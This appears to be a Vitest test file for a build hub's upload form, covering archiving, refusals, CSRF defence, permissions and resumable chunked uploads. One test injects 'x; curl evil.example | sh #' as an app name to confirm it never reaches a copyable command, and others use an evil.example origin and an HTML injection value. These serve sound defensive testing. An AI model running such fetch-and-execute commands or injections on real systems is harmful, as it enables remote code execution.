/** Uploading by a form of a browser: in one request without a script, in pieces with it. */
import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import type { Grant } from '../../src/access/rights.ts'
import { CHEAP, signedInAs } from '../support/browser.ts'
import type { Browser } from '../support/browser.ts'
import { tarball } from '../support/tarballs.ts'
import { createTestHub } from '../support/test-hub.ts'
import type { TestHub } from '../support/test-hub.ts'
import { AS_BROWSER, textOf } from './support.ts'

const BYTES = tarball({ 'shop/run': 'a shop\n' })
const DEVELOPER: Grant = { role: 'developer', apps: ['shop', 'new-shop'], environments: null }
const READER: Grant = { role: 'reader', apps: null, environments: null }

const page = async ({ agent }: Browser, path: string) => await agent.get(path).set(AS_BROWSER)

/** Sends the form as the page would. */
async function sendUpload(
  hub: TestHub,
  browser: Browser,
  fields: Readonly<Record<string, string>>,
  bytes: Buffer | null = BYTES,
  headers: Readonly<Record<string, string>> = { Origin: hub.url, 'Sec-Fetch-Site': 'same-origin' },
) {
  const request = browser.agent.post('/upload').set({ ...AS_BROWSER, ...headers })
  for (const [name, value] of Object.entries({ csrf: await browser.csrf(), ...fields }))
    void request.field(name, value)
  return await (bytes === null ? request : request.attach('tarball', bytes, 'shop.tar'))
}

test('the form archives a build without any script, and leads to it', async () => {
  await using hub = await createTestHub({}, CHEAP)
  const browser = await signedInAs(hub, 'dan', [DEVELOPER])
  const fields = { app: 'shop', build: '7', version: '1.4.0-rc.2', commit: 'c0ffee', branch: 'main' }
  const sent = await sendUpload(hub, browser, fields)
  expect([sent.status, sent.headers['location']]).toEqual([303, '/apps/shop/builds/7?done=archived'])
  expect((await hub.as().get('/api/v1/apps/shop/builds/7')).body).toMatchObject({
    ...{ version: '1.4.0-rc.2', commit: 'c0ffee', branch: 'main', uploadedBy: 'dan' },
    tarball: { sha512: createHash('sha512').update(BYTES).digest('hex') },
    releases: [{ environment: 'staging', state: 'released' }],
  })
  expect(textOf((await page(browser, '/apps/shop/builds/7?done=archived')).text)).toContain('It is archived.')
  expect(await hub.storedFiles()).toEqual([expect.stringMatching(/^distfiles\/archive\//)])
})

test('the next free number is suggested, and apps that somebody may upload are offered', async () => {
  await using hub = await createTestHub({}, CHEAP)
  for (const [app, build] of [
    ['shop', '41'],
    ['desk', '3'],
  ] as const)
    await hub.upload(app, tarball({ f: app }), { build })
  const browser = await signedInAs(hub, 'dan', [DEVELOPER])
  const { text } = await page(browser, '/upload?app=shop')
  expect(text).toMatch(/name="build"\s+value="42"/)
  expect(textOf(text)).toContain('The next free one is 42.')
  expect(text).toContain('<option value="new-shop">')
  expect(text).not.toContain('<option value="desk">')
  expect(text).toMatch(/<script src="\/assets\/upload\.[0-9a-f]{16}\.js" defer>/)
  expect((await page(browser, '/upload?app=none')).text).toMatch(/name="build"\s+value=""/)
})

test('no text of an address gets into the command that is there to be copied', async () => {
  await using hub = await createTestHub({}, CHEAP)
  await hub.upload('shop', BYTES, { build: '7' })
  const browser = await signedInAs(hub, 'dan', [DEVELOPER])
  expect((await page(browser, '/upload?app=shop')).text).toMatch(/data-copy="[^"]* push shop build/)
  const { text } = await page(browser, `/upload?app=${encodeURIComponent('x; curl evil.example | sh #')}`)
  expect(text).toContain('value="x; curl evil.example | sh #"')
  expect(text).toMatch(/data-copy="[^"]* push shop build/)
  expect(text).not.toMatch(/(?:data-copy="|<code>)[^"<]*evil/)
})

test('a refusal shows the form again with its words, says why, and leaves nothing', async () => {
  await using hub = await createTestHub({}, CHEAP)
  await hub.upload('shop', BYTES, { build: '7' })
  const kept = await hub.storedFiles()
  const browser = await signedInAs(hub, 'dan', [DEVELOPER])
  const refusals = [
    [{ app: 'shop', build: '9', version: '"><b>9' }, tarball({ other: 'x' }), 422, '(version.'],
    [{ app: 'shop', build: '7' }, tarball({ other: 'x' }), 409, '(build.duplicate)'],
    [{ app: 'shop', build: '8' }, Buffer.from('no archive'), 415, 'not a tar archive'],
    [{ app: 'shop', build: '8' }, null, 400, 'choose the tarball'],
    [{ app: 'Shop!', build: '8' }, BYTES, 422, 'not a name for an app'],
    [{ app: 'desk', build: '8' }, BYTES, 403, 'may not upload desk'],
    [{ app: 'shop', build: '8', promote: 'moon' }, BYTES, 404, 'moon'],
    [{ app: 'shop', build: 'x' }, BYTES, 422, 'not a build number'],
  ] as const
  for (const [fields, bytes, status, why] of refusals) {
    const { status: got, text } = await sendUpload(hub, browser, fields, bytes)
    expect([got, textOf(text)]).toEqual([status, expect.stringContaining(why)])
    expect(text).toMatch(/class="notice refused"/)
    expect(text).not.toContain('<b>9')
    expect(text).toContain('data-upload')
    expect(await hub.storedFiles()).toEqual(kept)
  }
  const again = await sendUpload(
    hub,
    browser,
    { app: 'shop', build: '7', branch: 'main' },
    tarball({ other: 'x' }),
  )
  expect(again.text).toMatch(/name="branch"\s+value="main"/)
})

test('a form that no page of the hub made archives nothing', async () => {
  await using hub = await createTestHub({}, CHEAP)
  const browser = await signedInAs(hub, 'dan', [DEVELOPER])
  const forged = await sendUpload(hub, browser, { csrf: 'forged', app: 'shop', build: '1' })
  expect([forged.status, textOf(forged.text)]).toEqual([403, expect.stringContaining('load the page again')])
  const foreign = { Origin: 'https://evil.example', 'Sec-Fetch-Site': 'cross-site' }
  const sent = await sendUpload(hub, browser, { app: 'shop', build: '1' }, null, foreign)
  expect([sent.status, textOf(sent.text)]).toEqual([403, expect.stringContaining('auth.csrf')])
  expect((await hub.as().get('/api/v1/builds')).body.items).toEqual([])
  expect(await hub.storedFiles()).toEqual([])
})

test('whoever may not upload is neither offered it nor let in', async () => {
  await using hub = await createTestHub({}, CHEAP)
  for (const app of ['shop', 'desk']) await hub.upload(app, tarball({ f: app }), { build: '1' })
  const reader = await signedInAs(hub, 'rita', [READER])
  for (const path of ['/apps', '/apps/shop'])
    expect((await page(reader, path)).text).not.toContain('/upload"')
  expect((await page(reader, '/upload')).status).toBe(403)
  expect((await sendUpload(hub, reader, { app: 'shop', build: '2' }, null)).status).toBe(403)
  const developer = await signedInAs(hub, 'dan', [{ ...DEVELOPER, apps: ['shop'] }, READER])
  expect((await page(developer, '/apps')).text).toContain('href="/upload"')
  expect((await page(developer, '/apps/shop')).text).toMatch(/action="\/upload"[^]*name="app" value="shop"/)
  expect((await page(developer, '/apps/desk')).text).not.toContain('/upload"')
  // A token has no forms.
  const token = await hub.token('developer', { apps: ['shop'] })
  expect((await hub.as(token).get('/apps/shop').set(AS_BROWSER)).text).not.toContain('data-upload')
})

test('what the script sends: pieces with the session, taken up where they were cut, then the build', async () => {
  await using hub = await createTestHub({}, CHEAP)
  const browser = await signedInAs(hub, 'dan', [DEVELOPER])
  const own = { Origin: hub.url, 'Sec-Fetch-Site': 'same-origin', 'Tus-Resumable': '1.0.0' }
  const begin = browser.agent
    .post('/api/v1/uploads')
    .set({ ...own, 'Upload-Length': String(BYTES.byteLength) })
  expect((await begin).body).toMatchObject({ code: 'auth.csrf' })
  const word = { ...own, 'X-CSRF-Token': await browser.csrf() }
  const begun = await browser.agent
    .post('/api/v1/uploads')
    .set({ ...word, 'Upload-Length': String(BYTES.byteLength) })
  const address = String(begun.headers['location'])
  const send = async (offset: number, bytes: Buffer) =>
    await browser.agent
      .patch(address)
      .set({ ...word, 'Upload-Offset': String(offset), 'Content-Type': 'application/offset+octet-stream' })
      .send(bytes)
  expect((await send(0, BYTES.subarray(0, 100))).status).toBe(204)
  // After a new load of the page.
  const later = await browser.agent.head(address).set(own)
  expect(later.headers['upload-offset']).toBe('100')
  expect((await send(100, BYTES.subarray(100))).status).toBe(204)
  const archived = await browser.agent
    .post('/api/v1/apps/shop/builds')
    .set(word)
    .type('form')
    .send({ upload: address, build: '7', version: '1.0.0' })
  expect([archived.status, archived.body.tarball.sha512]).toEqual([
    201,
    createHash('sha512').update(BYTES).digest('hex'),
  ])
})
